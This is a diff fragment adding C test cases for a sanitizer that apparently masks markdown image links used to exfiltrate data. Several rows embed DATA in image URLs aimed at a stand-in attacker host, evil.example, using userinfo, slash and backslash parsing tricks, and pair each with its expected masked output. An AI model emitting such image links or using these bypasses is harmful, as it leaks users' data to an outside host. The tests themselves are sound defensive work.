@@ -77,6 +77,10 @@ static const row rows[] = {
      "![x]([masked: outward-image])", 1, 1, SP_OK},
     {"a host of the list as a user", LISTS_HOSTS, "![x](https://img.example.org@evil.example/" DATA ")",
      "![x]([masked: outward-image])", 1, 2, SP_OK},
+    {"a host of the list behind another one", LISTS_HOSTS,
+     "![x](https:/evil.example//img.example.org/?q=" DATA ")", "![x]([masked: outward-image])", 1, 1, SP_OK},
+    {"a host of the list behind many slashes", LISTS_HOSTS, "![x](https:////img.example.org/?q=" DATA ")",
+     "![x](https:////img.example.org/?q=" DATA ")", 0, 0, SP_OK},
     {"a host of the list before a backslash", LISTS_HOSTS,
      "![x](https://evil.example\\\\.img.example.org/" DATA ")", "![x]([masked: outward-image])", 1, 1, SP_OK},
 };
